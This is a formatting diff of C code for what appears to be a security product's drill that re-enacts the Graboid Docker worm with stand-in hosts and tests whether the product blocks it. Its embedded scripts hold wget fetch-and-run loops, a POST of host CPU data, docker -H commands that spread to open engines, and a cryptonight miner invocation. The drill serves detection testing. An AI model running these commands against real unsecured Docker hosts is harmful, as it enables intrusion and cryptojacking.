@@ -1,8 +1,9 @@
 /* SPDX-License-Identifier: Apache-2.0 */
 /*
- * The Graboid story of 2019 with stand-ins: a worm that comes through an open Docker engine, spreads
- * to the next one with a docker client of its own, and starts a miner called nginx. The hosts are
- * two engines of the stage; the scripts know no other address. Nothing mines, nothing spreads.
+ * The Graboid story of 2019 with stand-ins: a worm that comes through an open Docker engine,
+ * spreads to the next one with a docker client of its own, and starts a miner called nginx. The
+ * hosts are two engines of the stage; the scripts know no other address. Nothing mines, nothing
+ * spreads.
  */
 #include <errno.h>
 #include <poll.h>
@@ -19,16 +20,18 @@
 #define WORM "seawall-drill/centos:7.6.1810"
 #define MINER "seawall-drill/nginx:v8.9"
 #define TARGET "203.0.113.20"
-#define SEEN_MS 5000  /* patience of the drill, not the goal */
+#define SEEN_MS 5000 /* patience of the drill, not the goal */
 #define STORY_MS 20000
-#define REST_MS 3000  /* how long a restart is watched for */
+#define REST_MS 3000 /* how long a restart is watched for */
 
 static const char entry_script[] =
 	"#!/bin/sh\n"
-	"# Stand-in for the worm's entry script: four scripts over plain HTTP on odd ports, one by one.\n"
+	"# Stand-in for the worm's entry script: four scripts over plain HTTP on odd ports, one by "
+	"one.\n"
 	"cd /tmp\n"
 	"for from in 10024/live.sh 8989/worm.sh 10024/cleanxmr.sh 8989/xmr.sh; do\n"
-	"\twget -q -O ${from#*/} http://" STAGE_SCRIPTS ":$from && chmod +x ${from#*/} && ./${from#*/}\n"
+	"\twget -q -O ${from#*/} http://" STAGE_SCRIPTS
+	":$from && chmod +x ${from#*/} && ./${from#*/}\n"
 	"done\n"
 	"sleep 60\n";
 
@@ -36,12 +39,16 @@ static const char entry_script[] =
 static const struct {
 	const char *name, *text;
 } scripts[] = {
-	{"live.sh", "#!/bin/sh\nwget -q -O /dev/null --post-data \"cpus=$(nproc)\" http://" STAGE_SCRIPTS ":8989/cpus\n"},
-	{"worm.sh", "#!/bin/sh\n[ \"$HOP\" = 2 ] && exit 0\nwget -q -O IP http://" STAGE_SCRIPTS ":10024/IP\n"
+	{"live.sh", "#!/bin/sh\nwget -q -O /dev/null --post-data \"cpus=$(nproc)\" "
+		    "http://" STAGE_SCRIPTS ":8989/cpus\n"},
+	{"worm.sh", "#!/bin/sh\n[ \"$HOP\" = 2 ] && exit 0\nwget -q -O IP http://" STAGE_SCRIPTS
+		    ":10024/IP\n"
 		    "docker -H tcp://$(tail -n 1 IP):2375 run -d -e HOP=2 " WORM "\n"},
-	{"cleanxmr.sh", "#!/bin/sh\n[ \"$HOP\" = 2 ] && exit 0\nfor id in $(docker -H tcp://$(head -n 1 IP):2375 ps -q -f ancestor=" MINER "); do\n"
+	{"cleanxmr.sh", "#!/bin/sh\n[ \"$HOP\" = 2 ] && exit 0\nfor id in $(docker -H tcp://$(head "
+			"-n 1 IP):2375 ps -q -f ancestor=" MINER "); do\n"
 			"\tdocker -H tcp://$(head -n 1 IP):2375 stop $id\ndone\n"},
-	{"xmr.sh", "#!/bin/sh\n[ \"$HOP\" = 2 ] && exit 0\ndocker -H tcp://$(tail -n 1 IP):2375 run -d --restart always " MINER "\n"},
+	{"xmr.sh", "#!/bin/sh\n[ \"$HOP\" = 2 ] && exit 0\ndocker -H tcp://$(tail -n 1 IP):2375 "
+		   "run -d --restart always " MINER "\n"},
 	{"IP", "203.0.113.10\n" TARGET "\n"},
 };
 
@@ -67,8 +74,10 @@ static const struct image_file miner_files[] = {
 static const struct image images[] = {
 	{WORM, "[\"/var/sbin/bash\"]", worm_files},
 	{MINER,
-		"[\"/usr/bin/nginx\",\"-a\",\"cryptonight\",\"-o\",\"stratum+tcp://" STAGE_POOL ":" STAGE_POOL_PORT "\",\"-k\","
-		"\"--donate-level\",\"1\",\"--cpu-priority\",\"0\",\"-u\",\"WALLET\",\"-p\",\"x\",\"-t\",\"1\"]",
+		"[\"/usr/bin/nginx\",\"-a\",\"cryptonight\",\"-o\",\"stratum+tcp://" STAGE_POOL
+		":" STAGE_POOL_PORT "\",\"-k\","
+		"\"--donate-level\",\"1\",\"--cpu-priority\",\"0\",\"-u\",\"WALLET\",\"-p\",\"x\","
+		"\"-t\",\"1\"]",
 		miner_files},
 };
 
@@ -99,8 +108,10 @@ static int make_world(struct story *s, struct diag *reterr)
 		if (r < 0)
 			return r;
 	}
-	const char *http[] = {"seawall-drill-server", "http", folder, STAGE_SCRIPTS ":10024", STAGE_SCRIPTS ":8989", NULL};
-	const char *pool[] = {"seawall-drill-server", "sink", s->pool, STAGE_POOL ":" STAGE_POOL_PORT, NULL};
+	const char *http[] = {"seawall-drill-server", "http", folder, STAGE_SCRIPTS ":10024",
+		STAGE_SCRIPTS ":8989", NULL};
+	const char *pool[] = {
+		"seawall-drill-server", "sink", s->pool, STAGE_POOL ":" STAGE_POOL_PORT, NULL};
 	int r = stage_server(stage, http, reterr);
 	return r < 0 ? r : stage_server(stage, pool, reterr);
 }
@@ -118,14 +129,16 @@ static int attack(struct story *s, struct diag *reterr)
 	s->d->began = time_monotonic();
 	int code = spawn_run(&(struct spawn){.argv = argv, .netns_fd = s->d->stage.netns}, &out);
 	if (code != 0)
-		r = diag_msg(reterr, -EIO, "the open engine did not take the container: %.200s", out.len ? (char *)out.data : "");
+		r = diag_msg(reterr, -EIO, "the open engine did not take the container: %.200s",
+			out.len ? (char *)out.data : "");
 	buf_done(&out);
 	return r;
 }
 
 static int step_attack(struct story *s, struct diag *reterr)
 {
-	struct drill_step step = {"attack", "created and started " WORM " over tcp://203.0.113.10:2375, without TLS",
+	struct drill_step step = {"attack",
+		"created and started " WORM " over tcp://203.0.113.10:2375, without TLS",
 		"no access gate is on: it starts, and Seawall shows it within a second"};
 	int r = attack(s, reterr);
 
@@ -134,7 +147,8 @@ static int step_attack(struct story *s, struct diag *reterr)
 	r = drill_wait_container(s->d, "seawall-drill/centos", 0, SEEN_MS, s->worm);
 	step.ms = drill_ms(s->d);
 	step.passed = r == 0;
-	snprintf(step.saw, sizeof(step.saw), r == 0 ? "container %.12s is on the Radar" : "nothing", s->worm);
+	snprintf(step.saw, sizeof(step.saw), r == 0 ? "container %.12s is on the Radar" : "nothing",
+		s->worm);
 	drill_report(s->d, &step);
 	return r == -EINTR ? r : 0;
 }
@@ -142,16 +156,19 @@ static int step_attack(struct story *s, struct diag *reterr)
 static int step_image(struct story *s, struct diag *reterr)
 {
 	CLEANUP(reply_done) struct reply reply = {0};
-	struct drill_step step = {"image", "it runs an image of a stranger's repository (loaded before, as if pulled)",
+	struct drill_step step = {"image",
+		"it runs an image of a stranger's repository (loaded before, as if pulled)",
 		"no trust or vulnerability gate is on: it runs, known by name and digest"};
 	char path[128];
 
 	snprintf(path, sizeof(path), "/containers/%s", s->worm);
 	int r = client_ask(s->d->stage.client, &(struct request){.path = path}, &reply, reterr);
-	const char *image = json_get_str(reply.json, "image", "?"), *digest = json_get_str(reply.json, "digest", "");
+	const char *image = json_get_str(reply.json, "image", "?"),
+		   *digest = json_get_str(reply.json, "digest", "");
 	step.ms = drill_ms(s->d);
 	step.passed = r == 0 && strstr(image, WORM) && *digest;
-	snprintf(step.saw, sizeof(step.saw), "%.200s, %.20s", image, *digest ? digest : "no digest");
+	snprintf(
+		step.saw, sizeof(step.saw), "%.200s, %.20s", image, *digest ? digest : "no digest");
 	drill_report(s->d, &step);
 	return r;
 }
@@ -168,16 +185,19 @@ static bool has_edge(void *ctx, const struct json *answer)
 	struct wanted_edge *w = ctx;
 
 	for (const struct json *e = json_first(json_get(answer, "items")); e; e = json_next(e)) {
-		if (json_get_int(e, "port", 0) != w->port || strcmp(json_get_str(e, "address", ""), w->address) != 0)
+		if (json_get_int(e, "port", 0) != w->port ||
+			strcmp(json_get_str(e, "address", ""), w->address) != 0)
 			continue;
-		snprintf(w->saw, sizeof(w->saw), "%.60s to %s:%u in %.8s", json_get_str(e, "process", "?"), w->address, w->port,
+		snprintf(w->saw, sizeof(w->saw), "%.60s to %s:%u in %.8s",
+			json_get_str(e, "process", "?"), w->address, w->port,
 			json_get_str(e, "country", "an unknown country"));
 		return true;
 	}
 	return false;
 }
 
-static int report_edge(struct story *s, struct drill_step *step, const char *container, struct wanted_edge *w)
+static int report_edge(
+	struct story *s, struct drill_step *step, const char *container, struct wanted_edge *w)
 {
 	CLEANUP(reply_done) struct reply reply = {0};
 	char path[128];
@@ -216,7 +236,8 @@ static bool has_exec(void *ctx, const struct json *answer)
 	return false;
 }
 
-static int report_exec(struct story *s, struct drill_step *step, const char *container, const char *word)
+static int report_exec(
+	struct story *s, struct drill_step *step, const char *container, const char *word)
 {
 	CLEANUP(reply_done) struct reply reply = {0};
 	struct wanted_exec w = {.word = word};
@@ -226,26 +247,37 @@ static int report_exec(struct story *s, struct drill_step *step, const char *con
 	int r = drill_wait(s->d, path, STORY_MS, has_exec, &w, &reply);
 	step->ms = drill_ms(s->d);
 	step->passed = r == 0;
-	snprintf(step->saw, sizeof(step->saw), "%s%s", r == 0 ? "in the flight recorder: " : "no such process start", r == 0 ? w.saw : "");
+	snprintf(step->saw, sizeof(step->saw), "%s%s",
+		r == 0 ? "in the flight recorder: " : "no such process start", r == 0 ? w.saw : "");
 	drill_report(s->d, step);
 	return r == -EINTR ? r : 0;
 }
 
 static int steps_scripts(struct story *s)
 {
-	struct drill_step fetch = {"scripts", "its entry script /var/sbin/bash fetches four shell scripts over plain HTTP and runs them",
+	struct drill_step fetch = {"scripts",
+		"its entry script /var/sbin/bash fetches four shell scripts over plain HTTP and "
+		"runs them",
 		"the connection to port 10024 is on the Radar, with process and country"};
-	struct drill_step live = {"live.sh", "sends the number of CPUs to port 8989 of the same server",
+	struct drill_step live = {"live.sh",
+		"sends the number of CPUs to port 8989 of the same server",
 		"the connection to port 8989 is on the Radar"};
-	struct drill_step worm = {"worm.sh", "with docker -H starts the same image on the next host of the list, " TARGET,
-		"the docker client is recorded with its arguments, and the copy is seen on the second host"};
-	struct drill_step clean = {"cleanxmr.sh", "looks for rival miners on a host to stop them", "the docker client is recorded"};
-	struct drill_step mine = {"xmr.sh", "starts " MINER " on a third host (the second again: the list has two), to be restarted always",
+	struct drill_step worm = {"worm.sh",
+		"with docker -H starts the same image on the next host of the list, " TARGET,
+		"the docker client is recorded with its arguments, and the copy is seen on the "
+		"second host"};
+	struct drill_step clean = {"cleanxmr.sh", "looks for rival miners on a host to stop them",
+		"the docker client is recorded"};
+	struct drill_step mine = {"xmr.sh",
+		"starts " MINER
+		" on a third host (the second again: the list has two), to be restarted always",
 		"the docker client is recorded, and the container is seen"};
 
-	int r = report_edge(s, &fetch, s->worm, &(struct wanted_edge){.port = 10024, .address = STAGE_SCRIPTS});
+	int r = report_edge(
+		s, &fetch, s->worm, &(struct wanted_edge){.port = 10024, .address = STAGE_SCRIPTS});
 	if (r == 0)
-		r = report_edge(s, &live, s->worm, &(struct wanted_edge){.port = 8989, .address = STAGE_SCRIPTS});
+		r = report_edge(s, &live, s->worm,
+			&(struct wanted_edge){.port = 8989, .address = STAGE_SCRIPTS});
 	if (r == 0)
 		r = drill_wait_container(s->d, "seawall-drill/centos", 1, STORY_MS, s->copy);
 	if (r == 0 || r == -ETIMEDOUT)
@@ -255,7 +287,8 @@ static int steps_scripts(struct story *s)
 	if (r == 0)
 		r = drill_wait_container(s->d, "seawall-drill/nginx", 0, STORY_MS, s->miner);
 	if (r == 0 || r == -ETIMEDOUT)
-		r = report_exec(s, &mine, s->worm, s->miner[0] ? "--restart" : "the miner's container was not seen");
+		r = report_exec(s, &mine, s->worm,
+			s->miner[0] ? "--restart" : "the miner's container was not seen");
 	return r;
 }
 
@@ -271,7 +304,9 @@ static size_t pool_heard(const struct story *s, char *out, size_t size)
 static int step_mine_stopped(struct story *s)
 {
 	CLEANUP(reply_done) struct reply reply = {0};
-	struct drill_step step = {"mine", "/usr/bin/nginx -a cryptonight -o stratum+tcp://" STAGE_POOL ":" STAGE_POOL_PORT " … begins to mine",
+	struct drill_step step = {"mine",
+		"/usr/bin/nginx -a cryptonight -o stratum+tcp://" STAGE_POOL ":" STAGE_POOL_PORT
+		" … begins to mine",
 		"an audit of a crypto miner, the container blocked, and the pool hears nothing"};
 	const struct json *audit = NULL;
 	char path[256], heard[256] = "";
@@ -284,11 +319,17 @@ static int step_mine_stopped(struct story *s)
 	step.passed = blocked && quiet;
 	s->d->stopped = step.passed;
 	if (r != 0)
-		snprintf(step.saw, sizeof(step.saw), "no audit of the miner; the pool heard: %.200s", *heard ? heard : "nothing");
+		snprintf(step.saw, sizeof(step.saw),
+			"no audit of the miner; the pool heard: %.200s",
+			*heard ? heard : "nothing");
 	else
-		snprintf(step.saw, sizeof(step.saw), "%.300s (done: %s, %.1f ms after its start); the pool heard %.100s", json_get_str(audit, "message", ""),
-			json_get_str(audit, "done", "?"), json_double(json_get(audit, "latency_ns"), 0) / 1e6, quiet ? "nothing" : heard);
-	snprintf(s->d->stopped_at, sizeof(s->d->stopped_at), "step %d, %lu ms after the attack began", s->d->steps + 1, (unsigned long)step.ms);
+		snprintf(step.saw, sizeof(step.saw),
+			"%.300s (done: %s, %.1f ms after its start); the pool heard %.100s",
+			json_get_str(audit, "message", ""), json_get_str(audit, "done", "?"),
+			json_double(json_get(audit, "latency_ns"), 0) / 1e6,
+			quiet ? "nothing" : heard);
+	snprintf(s->d->stopped_at, sizeof(s->d->stopped_at),
+		"step %d, %lu ms after the attack began", s->d->steps + 1, (unsigned long)step.ms);
 	drill_report(s->d, &step);
 	return r == -EINTR ? r : 0;
 }
@@ -309,7 +350,8 @@ static void miner_state(const struct story *s, char out[32], int64_t *ret_restar
  * the watch once it is down, without a restart counted. */
 static int step_stays_down(struct story *s)
 {
-	struct drill_step step = {"restart", "the engine was told to restart it always", "it stays down, and the pool hears nothing"};
+	struct drill_step step = {"restart", "the engine was told to restart it always",
+		"it stays down, and the pool hears nothing"};
 	uint64_t until = time_monotonic() + REST_MS * NSEC_PER_MSEC;
 	char heard[256] = "", state[32] = "";
 	int64_t first = -1, restarts = 0;
@@ -323,8 +365,9 @@ static int step_stays_down(struct story *s)
 	bool quiet = pool_heard(s, heard, sizeof(heard)) == 0;
 	step.ms = drill_ms(s->d);
 	step.passed = first >= 0 && restarts == first && strcmp(state, "exited") == 0 && quiet;
-	snprintf(step.saw, sizeof(step.saw), "the engine says '%s' after %d s, restarts: %ld; the pool heard %.200s", state, REST_MS / 1000,
-		(long)restarts, quiet ? "nothing" : heard);
+	snprintf(step.saw, sizeof(step.saw),
+		"the engine says '%s' after %d s, restarts: %ld; the pool heard %.200s", state,
+		REST_MS / 1000, (long)restarts, quiet ? "nothing" : heard);
 	s->d->stopped = s->d->stopped && step.passed;
 	drill_report(s->d, &step);
 	return stage_interrupted() ? -EINTR : 0;
@@ -333,18 +376,22 @@ static int step_stays_down(struct story *s)
 /* With every gate off the miner must get through: otherwise the drill would prove nothing. */
 static int step_mine_runs(struct story *s)
 {
-	struct drill_step step = {"mine", "/usr/bin/nginx -a cryptonight -o stratum+tcp://" STAGE_POOL ":" STAGE_POOL_PORT " … begins to mine",
+	struct drill_step step = {"mine",
+		"/usr/bin/nginx -a cryptonight -o stratum+tcp://" STAGE_POOL ":" STAGE_POOL_PORT
+		" … begins to mine",
 		"every gate is off: it is not stopped, and the pool hears it"};
 	uint64_t deadline = time_monotonic() + STORY_MS * NSEC_PER_MSEC;
 	char heard[256] = "", state[32];
 	int64_t restarts;
 
-	while (!pool_heard(s, heard, sizeof(heard)) && time_monotonic() < deadline && !stage_interrupted())
+	while (!pool_heard(s, heard, sizeof(heard)) && time_monotonic() < deadline &&
+		!stage_interrupted())
 		poll(NULL, 0, 20);
 	step.ms = drill_ms(s->d);
 	miner_state(s, state, &restarts);
 	step.passed = *heard && strcmp(state, "running") == 0;
-	snprintf(step.saw, sizeof(step.saw), "the engine says '%s'; the pool heard: %.200s", state, *heard ? heard : "nothing");
+	snprintf(step.saw, sizeof(step.saw), "the engine says '%s'; the pool heard: %.200s", state,
+		*heard ? heard : "nothing");
 	drill_report(s->d, &step);
 	return stage_interrupted() ? -EINTR : 0;
 }
@@ -375,12 +422,14 @@ const struct drill_row drill_graboid = {
 	.name = "graboid",
 	.help = "the worm of 2019: an open Docker engine, a stranger's image, a miner called nginx",
 	.hosts = 2,
-	.policy = "version: 1\nruntime:\n  - {name: stop miners, processes: {crypto_miners: block}}\n",
-	.gates = {
-		[GATE_RUNTIME] = {"runtime", true, "mine (8)"},
-		[GATE_ACCESS] = {"access", false, "attack (1), worm.sh, xmr.sh"},
-		[GATE_TRUST] = {"trust", false, "image (2), xmr.sh (7)"},
-		[GATE_VULNERABILITY] = {"vulnerability", false, "image (2), xmr.sh (7)"},
-	},
+	.policy = "version: 1\nruntime:\n  - {name: stop miners, processes: {crypto_miners: "
+		  "block}}\n",
+	.gates =
+		{
+			[GATE_RUNTIME] = {"runtime", true, "mine (8)"},
+			[GATE_ACCESS] = {"access", false, "attack (1), worm.sh, xmr.sh"},
+			[GATE_TRUST] = {"trust", false, "image (2), xmr.sh (7)"},
+			[GATE_VULNERABILITY] = {"vulnerability", false, "image (2), xmr.sh (7)"},
+		},
 	.run = run,
 };
